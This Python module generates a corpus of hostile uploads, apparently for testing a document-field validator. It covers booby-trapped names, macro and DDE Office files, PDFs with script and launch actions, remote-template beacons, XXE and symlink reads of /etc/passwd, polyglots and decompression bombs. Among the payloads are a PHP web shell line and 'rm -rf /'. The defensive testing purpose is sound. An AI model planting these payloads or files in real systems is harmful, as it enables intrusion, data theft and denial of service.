"""Some four hundred files made to do harm through a field for documents, from nothing and a seed."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from toasoan.sent_files.limits import MOST_BYTES
from toasoan.testing.hostile_files import saved
from toasoan.testing.pictures import noise
from toasoan.testing.sound_files import (
    WORD_SPACE,
    XML,
    excel_parts,
    open_parts,
    package,
    packed_objects,
    pdf,
    pdf_with_table_stream,
    relations,
    stream,
    word_parts,
)  # fmt: skip

_OLE = bytes.fromhex("D0CF11E0A1B11AE1")
_EXE = (
    b"MZ\x90\0" + bytes(56) + b"\x80\0\0\0This program cannot be run in DOS mode.\r\n" + bytes(99)
)
_HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_BEACON = "http://198.51.100.7/x"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """What is sent, its class, and whether only its name does harm (a clean one may be given)."""

    group: str
    name: str
    content: bytes
    only_its_name: bool = False


def hostile_documents(seed: int = 13) -> Iterator[HostileFile]:
    """All of them; the same for the same seed."""
    dice = random.Random(seed)  # files for tests
    yield from _names()
    yield from _wrong_contents()
    yield from _office_files()
    yield from _open_document_files()
    yield from _archives(dice)
    yield from _pdfs()
    yield from _two_kinds(dice)
    yield from _broken(dice)
    yield from _oversize()


def good_files() -> dict[str, bytes]:
    """A sound file of each kind that a field may take, by its ending."""
    return {
        "pdf": pdf(),
        "docx": package(word_parts()),
        "xlsx": package(excel_parts()),
        "odt": package(open_parts()),
        "jpg": saved(noise(64, 48), "JPEG"),
        "png": saved(noise(64, 48), "PNG"),
    }


def _names() -> Iterator[HostileFile]:
    """Sound contents under names that systems run, or that lead elsewhere."""
    running = (
        "exe", "js", "scr", "bat", "cmd", "vbs", "hta", "html", "svg", "php", "jar", "lnk", "docm",
        "zip", "com", "ps1",
    )  # fmt: skip
    for ending, content in good_files().items():
        for other in running:
            yield HostileFile("double ending", f"van-ban.{ending}.{other}", content)
        for name in (
            f"van-ban\u202e{ending[::-1]}.exe", f"van-ban.{ending}\0.exe", f"a.{ending}:b.exe",
            f"a.{ending}/../../b.sh", f"van-ban.{ending}.exe. . .", "van-ban", f".{ending}x",
        ):  # fmt: skip
            yield HostileFile("name", name, content)
        for name in (
            f"van-ban.exe.{ending}", f"../../etc/{ending}.js.{ending}", f"C:\\nul.{ending}",
            f"con.{ending}", f"a\r\nSet-Cookie: b.{ending}", f"{'x' * 400}.scr.{ending}",
            f"\u202ereversed\u2066.{ending}", f'"><script>alert(1)</script>.{ending}',
        ):  # fmt: skip
            yield HostileFile("name", name, content, only_its_name=True)


def _wrong_contents() -> Iterator[HostileFile]:
    """Contents that no field takes, under names of those that it does."""
    contents = {
        "program": _EXE,
        "ELF": b"\x7fELF\x02\x01\x01" + bytes(120),
        "HTML": _HTML,
        "HTML behind spaces": b"\n" * 600 + _HTML,
        "SVG with script": _SVG,
        "SVG bomb": b'<!DOCTYPE svg [<!ENTITY a "' + b"a" * 5000 + b'">]><svg>&a;&a;</svg>',
        "script": b"var a = new ActiveXObject('WScript.Shell'); a.Run('calc')",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "PHP": b"<?php system($_GET['c']); ?>",
        "page with objects": b'<?xml version="1.0"?><hta:application/><script>1</script>',
        "mail with a page": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML,
        "RTF with object": rb"{\rtf1{\object\objocx{\*\objdata 0105}}}",
        "old Word": _OLE + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(900),
        "locked Word": _OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        "installer": _OLE + bytes(2000),
        "link": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0" + bytes(80),
        "RAR": b"Rar!\x1a\x07\x01\0" + bytes(90),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(90),
        "gzip bomb": gzip.compress(bytes(3_000_000)),
        "nothing": b"",
        "spaces": b" \r\n" * 40,
        "text": "không phải văn bản".encode(),
    }
    for label, content in contents.items():
        for name in ("van-ban.pdf", "van-ban.docx", "van-ban.xlsx", "anh.jpg", "anh.png"):
            yield HostileFile(label, name, content)


def _field(code: str, cut: int = 0) -> str:
    """A field of Word whose instruction is cut into two runs."""
    pieces = (code[:cut], code[cut:]) if cut else (code,)
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")]
    return f"<w:p>{marks[0]}{runs}{marks[1]}</w:p>"


def _office_files() -> Iterator[HostileFile]:
    """Macros, objects and sources outside, in files of Word and Excel."""
    for base, ending, folder in ((word_parts, "docx", "word"), (excel_parts, "xlsx", "xl")):
        main = f"{folder}/{'document' if folder == 'word' else 'workbook'}.xml"
        place = f"{folder}/_rels/{main.partition('/')[2]}.rels"
        more_parts: dict[str, dict[str, bytes]] = {
            "macro": {f"{folder}/vbaProject.bin": _OLE + bytes(90)},
            "macro in capitals": {f"{folder}/VBAPROJECT.BIN": _OLE},
            "macro data": {f"{folder}/vbaData.xml": b"<a/>"},
            "macro sheet": {"xl/macrosheets/sheet1.xml": b"<a/>"},
            "dialog sheet": {"xl/dialogsheets/sheet1.xml": b"<a/>"},
            "object": {f"{folder}/embeddings/oleObject1.bin": _OLE + bytes(90)},
            "object under another name": {f"{folder}/media/image1.png": _OLE + bytes(90)},
            "control": {f"{folder}/activeX/activeX1.xml": b"<a/>"},
            "ribbon": {"customUI/customUI.xml": b'<customUI onLoad="a"/>'},
            "program": {f"{folder}/media/image1.jpeg": _EXE},
            "program by its name": {f"{folder}/media/setup.exe": b"x"},
            "page": {f"{folder}/media/a.html": _HTML},
            "picture with script": {f"{folder}/media/a.svg": _SVG},
            "archive": {f"{folder}/media/a.bin": package({"a.js": "1"})},
            "file within": {f"{folder}/embeddings/a.docx": package(word_parts())},
            "workbook with macro": {
                f"{folder}/embeddings/a.xlsx": package(excel_parts() | {"xl/vbaProject.bin": _OLE})
            },
            "entity": {f"{folder}/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'},
            "other letters": {f"{folder}/styles.xml": f"{XML}<a/>".encode("utf-16")},
        }
        for label, parts in more_parts.items():
            yield HostileFile(label, f"van-ban.{ending}", package(base() | parts))
        outside = {
            "template": ("attachedTemplate", f"{_BEACON}.dotm", True),
            "template on a share": ("attachedTemplate", r"\\198.51.100.7\a\b.dotm", True),
            "object outside": ("oleObject", f"mhtml:{_BEACON}!x-usc:{_BEACON}", True),
            "picture outside": ("image", _BEACON, True),
            "frame": ("frame", _BEACON, True),
            "page inside": ("aFChunk", "afchunk.mht", False),
            "document inside": ("subDocument", "file://198.51.100.7/a.docx", True),
            "macro by relation": ("vbaProject", "harmless.bin", False),
            "control by relation": ("control", "harmless.xml", False),
            "link that runs": ("hyperlink", "javascript:alert(1)", True),
            "link that starts": ("hyperlink", "ms-msdt:/id PCWDiagnostic /param a", True),
            "other workbook": ("externalLink", "externalLinks/externalLink1.xml", False),
        }
        for label, target in outside.items():
            yield HostileFile(
                label, f"van-ban.{ending}", package(base() | {place: relations(target)})
            )
        yield from _renamed(base, ending)
    yield from _fields_and_formulas()


def _renamed(base: Callable[[], dict[str, bytes]], ending: str) -> Iterator[HostileFile]:
    """Files with macros and templates under the endings of files without."""
    types = "[Content_Types].xml"
    parts = base()
    for mark in (b"ms-word.document.macroEnabled", b"ms-excel.sheet.macroEnabled",
                 b"ms-word.template.macroEnabledTemplate", b"ms-excel.addin.MACROENABLED"):  # fmt: skip
        main = b"openxmlformats-officedocument." + (
            b"wordprocessingml.document" if ending == "docx" else b"spreadsheetml.sheet"
        )
        changed = parts[types].replace(main, mark)
        yield HostileFile(
            "macro file renamed", f"van-ban.{ending}", package(parts | {types: changed})
        )
    other = "xlsx" if ending == "docx" else "docx"
    yield HostileFile("office file renamed", f"van-ban.{other}", package(parts))
    yield HostileFile("office file renamed", f"van-ban.{ending}.pdf", package(parts))
    template = parts[types].replace(b".main+xml", b".template.main+xml")
    template = template.replace(b"document.template", b"template").replace(
        b"sheet.template", b"template"
    )
    yield HostileFile("template renamed", f"van-ban.{ending}", package(parts | {types: template}))


def _fields_and_formulas() -> Iterator[HostileFile]:
    codes = (
        r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', 'DDE "a" "b"', "ddeauto a b",
        f'INCLUDETEXT "{_BEACON}"', f'INCLUDEPICTURE "{_BEACON}" \\d', r"LINK Excel.Sheet.8 a b",
        "DATABASE \\d a", "IMPORT a", "RD a",
    )  # fmt: skip
    for code in codes:
        written = code.replace('"', "&quot;")
        for label, body in (
            ("field", _field(written)),
            ("field in two runs", _field(written, 2)),
            ("short field", f'<w:p><w:fldSimple w:instr="{written}"/></w:p>'),
        ):
            yield HostileFile(label, "van-ban.docx", package(word_parts(body=body)))
    header = f'{XML}<w:hdr xmlns:w="{WORD_SPACE}">{_field("DDEAUTO a b")}</w:hdr>'
    yield HostileFile(
        "field", "a.docx", package(word_parts() | {"word/header1.xml": header.encode()})
    )
    for formula in (
        "cmd|' /C calc'!A0", "DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;a&quot;)", "CALL(&quot;a&quot;)",
        "&#99;md|&#39;/c calc&#39;!A0", "REGISTER.ID(&quot;a&quot;)", "EXEC(&quot;calc&quot;)",
    ):  # fmt: skip
        yield HostileFile("formula", "bang.xlsx", package(excel_parts(formula=formula)))
    link = f'{XML}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    parts = excel_parts() | {"xl/externalLinks/externalLink1.xml": link.encode()}
    yield HostileFile("DDE link", "bang.xlsx", package(parts))


def _open_document_files() -> Iterator[HostileFile]:
    bodies = {
        "listener": '<script:event-listener script:language="ooo:script" xlink:href="a"/>',
        "DDE": '<text:dde-connection-decl office:name="a"/>',
        "DDE source": '<office:dde-source office:dde-application="cmd"/>',
        "object": "<draw:object-ole/>",
        "plugin": '<draw:plugin xlink:href="a"/>',
        "applet": "<draw:applet/>",
        "picture outside": f'<draw:image xlink:href="{_BEACON}"/>',
        "text outside": f'<text:section-source xlink:href="{_BEACON}"/>',
    }
    for label, body in bodies.items():
        yield HostileFile(label, "van-ban.odt", package(open_parts(body=body)))
    parts = {
        "macro": {"Basic/Standard/Module1.xml": b"<a/>"},
        "script": {"Scripts/python/a.py": b"import os"},
        "object": {"Object 1": _OLE + bytes(80)},
        "locked": {"META-INF/manifest.xml": b"<manifest:encryption-data/>"},
        "program": {"Pictures/a.png": _EXE},
        "entity": {"settings.xml": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'},
    }
    for label, more in parts.items():
        for kind, ending in (("text", "odt"), ("spreadsheet", "ods")):
            content = package(open_parts(kind=kind) | more)
            yield HostileFile(label, f"van-ban.{ending}", content)
    other = open_parts() | {"mimetype": b"application/vnd.oasis.opendocument.graphics"}
    yield HostileFile("drawing", "van-ban.odt", package(other))


def _archives(dice: random.Random) -> Iterator[HostileFile]:
    """Bombs and archives that two readers read in two ways."""
    zeros = bytes(60_000_000)
    for base, ending in ((word_parts, "docx"), (excel_parts, "xlsx"), (open_parts, "odt")):
        good = package(base())
        name = f"van-ban.{ending}"
        yield HostileFile("bomb", name, package(base() | {"word/media/a.bmp": zeros}))
        yield HostileFile("bomb of parts", name, package(base() | _many(b"", 3_100)))
        yield HostileFile("bomb of sums", name, package(base() | _many(bytes(6_000_000), 20)))
        yield HostileFile("sizes that lie", name, _lying(good))
        yield HostileFile("parts that overlap", name, _overlapping(good))
        for flag in (0x1, 0x41):
            yield HostileFile("locked", name, _flagged(good, flag))
        for bad in ("../../a.xml", "/etc/a.xml", r"a\..\b.xml", "C:a.xml", "a\x01.xml"):
            yield HostileFile("part that leads out", name, package(base() | {bad: b"<a/>"}))
        first = next(iter(base()))
        yield HostileFile("part twice", name, package(base() | {first.upper(): b"<a/>"}))
        yield HostileFile("link", name, _with_symlink(base()))
        for front in (_EXE, _HTML, b"%PDF-1.7\n", dice.randbytes(64)):
            yield HostileFile("something before", name, front + good)
        for tail in (_EXE, _HTML, pdf(), dice.randbytes(64)):
            yield HostileFile("something behind", name, good + tail)
        yield HostileFile("comment", name, package(base(), comment=_HTML))
        yield HostileFile("hidden between", name, _with_gap(good, _EXE))
        yield HostileFile("nested", name, package({f"{at}.zip": good for at in range(3)}))


def _many(content: bytes, count: int) -> dict[str, bytes]:
    return {f"word/media/{at}.bmp": content for at in range(count)}


def _lying(good: bytes) -> bytes:
    """Every part says that it unpacks to ten bytes."""
    changed = bytearray(good)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 10)
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _overlapping(good: bytes) -> bytes:
    """Every part begins where the first one does."""
    changed = bytearray(good)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 42 : at + 46] = bytes(4)
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _flagged(good: bytes, flag: int) -> bytes:
    changed = bytearray(good)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= flag
            at = changed.find(mark, at + 4)
    return bytes(changed)


def _with_symlink(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO(package(parts))
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/passwd")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _with_gap(good: bytes, hidden: bytes) -> bytes:
    """Something between the last part and the list of parts, which is mended to fit."""
    at = good.index(b"PK\x01\x02")
    changed = bytearray(good[:at] + hidden + good[at:])
    changed[-6:-2] = struct.pack("<I", at + len(hidden))
    return bytes(changed)


def _pdfs() -> Iterator[HostileFile]:
    """PDFs that run or start something, or hold what does."""
    actions = {
        "script": "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "script under another spelling": "<< /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>",
        "launch": "<< /S /Launch /F (cmd.exe) >>",
        "launch on Windows": "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "form that sends": f"<< /S /SubmitForm /F ({_BEACON}) >>",
        "data from elsewhere": "<< /S /ImportData /F (a.fdf) >>",
        "other file": r"<< /S /GoToR /F (\\\\198.51.100.7\\a.pdf) /D [0 /Fit] >>",
        "file within": "<< /S /GoToE /T << /R /C /N (a) >> >>",
        "film": "<< /S /Rendition /OP 0 >>",
        "sound": "<< /S /Sound /Sound 5 0 R >>",
        "link that runs": "<< /S /URI /URI (javascript:alert\\(1\\)) >>",
        "link to a file": "<< /S /URI /URI (file:///c:/windows/system32/calc.exe) >>",
    }
    for label, action in actions.items():
        contents = {
            "at the beginning": pdf(catalogue=f"/OpenAction {action}"),
            "by itself": pdf(page=f"/AA << /O {action} >>"),
            "at a place": pdf(page=f"/Annots [<< /Type /Annot /Subtype /Link /A {action} >>]"),
            "apart": pdf(catalogue="/OpenAction 6 0 R", objects=(action.encode(),)),
            "packed": pdf_with_table_stream(packed_objects(7, action.encode())),
        }
        for where, content in contents.items():
            yield HostileFile(f"PDF: {label} {where}", "van-ban.pdf", content)
    whole = {
        "named script": pdf(catalogue="/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"),
        "form of another kind": pdf(catalogue="/AcroForm << /XFA [(a) 6 0 R] >>"),
        "rich media": pdf(page="/Annots [<< /Subtype /RichMedia /RichMediaContent 6 0 R >>]"),
        "three dimensions": pdf(page="/Annots [<< /Subtype /3D >>]"),
        "locked": pdf(
            objects=(
                b"<< /Filter /Standard /V 1 /R 2 /O ("
                + b"o" * 32
                + b") /U ("
                + b"u" * 32
                + b") /P -4 >>",
            ),
            trailer="/Encrypt 6 0 R /ID [<00> <00>]",
        ),
        "deep": pdf(objects=(b"[" * 3000 + b"]" * 3000,)),
        "bomb of objects": pdf_with_table_stream(
            stream(
                zlib.compress(bytes(100_000_000)),
                "/Type /ObjStm /N 9 /First 9 /Filter /FlateDecode",
            )
        ),
        "earlier version": _later_version(actions["script"]),
    }
    for label, content in whole.items():
        yield HostileFile(f"PDF: {label}", "van-ban.pdf", content)
    yield from _pdfs_with_files()


def _later_version(action: str) -> bytes:
    """A PDF that ran a script in the version before this one."""
    first = pdf(catalogue="/OpenAction 6 0 R", objects=(action.encode(),))
    body = first + b"6 0 obj\nnull\nendobj\n"
    row = b"xref\n6 1\n%010d 00000 n \n" % len(first)
    before = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    end = b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        before,
        len(body),
    )
    return body + row + end


def _pdfs_with_files() -> Iterator[HostileFile]:
    macro = package(word_parts() | {"word/vbaProject.bin": _OLE})
    held = {
        "a.exe": _EXE, "a.txt": _EXE, "a.html": _HTML, "a.pdf": pdf(catalogue="/OpenAction << /S /JavaScript /JS (a) >>"),
        "a.docx": macro, "a.js": b"1", "a.zip": package({"a.js": "1"}), "a.docm": package(word_parts()),
    }  # fmt: skip
    for name, content in held.items():
        entry = f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 7 0 R >> >>".encode()
        within = stream(zlib.compress(content), "/Type /EmbeddedFile /Filter /FlateDecode")
        names = "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
        whole = pdf(catalogue=names, objects=(entry, within))
        yield HostileFile("PDF: file within", "van-ban.pdf", whole)


def _two_kinds(dice: random.Random) -> Iterator[HostileFile]:
    """Files that are two things, by whoever reads them."""
    jar = package({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})
    tails = {
        "archive": package({"a.js": "alert(1)"}), "program for Java": jar, "page": _HTML,
        "script": b"<script>alert(1)</script>", "program": _EXE, "PHP": b"<?php system('a') ?>",
        "RAR": b"Rar!\x1a\x07\0" + dice.randbytes(40), "7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    }  # fmt: skip
    files = good_files()
    for label, tail in tails.items():
        for ending in ("pdf", "jpg", "png"):
            yield HostileFile(f"{label} behind", f"a.{ending}", files[ending] + tail)
            yield HostileFile(f"{label} before", f"a.{ending}", tail + files[ending])
    yield HostileFile("PDF behind a photo", "anh.jpg", files["jpg"] + files["pdf"])
    for mark in (_HTML, _SVG, b"<?php eval($_POST[1]) ?>"):
        jpeg = files["jpg"]
        comment = b"\xff\xfe" + struct.pack(">H", len(mark) + 2) + mark
        yield HostileFile("photo with a page", "anh.jpg", jpeg[:2] + comment + jpeg[2:])
        yield HostileFile("PDF with a page", "a.pdf", pdf(objects=(stream(mark),)))
        yield HostileFile(
            "PDF with a page", "a.pdf", pdf().replace(b"\n%\xe2", b"\n%" + mark + b"\xe2", 1)
        )
    yield HostileFile("archive in a PDF", "a.pdf", pdf(objects=(stream(jar),)))
    yield HostileFile("GIF that is a program", "anh.gif", saved(noise(20, 20), "GIF") + jar)
    script = b"GIF89a/*\x01\0\x01\0\x80\0\0*/=1;alert(1)//"
    yield HostileFile("GIF that is a script", "anh.gif", script)


def _broken(dice: random.Random) -> Iterator[HostileFile]:
    """Files that lost a part on their way."""
    for ending, content in good_files().items():
        for _time in range(6):
            cut = dice.randrange(len(content) // 4, len(content) - 40)
            yield HostileFile("cut off", f"van-ban.{ending}", content[:cut])
        head = content[:12] + dice.randbytes(900)
        yield HostileFile("only a beginning", f"van-ban.{ending}", head)
    says_large = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + says_large
    chunk += struct.pack(">I", zlib.crc32(b"IHDR" + says_large))
    yield HostileFile("photo that says it is huge", "anh.png", b"\x89PNG\r\n\x1a\n" + chunk)


def _oversize() -> Iterator[HostileFile]:
    for ending, content in good_files().items():
        yield HostileFile("oversize", f"van-ban.{ending}", content + bytes(MOST_BYTES))
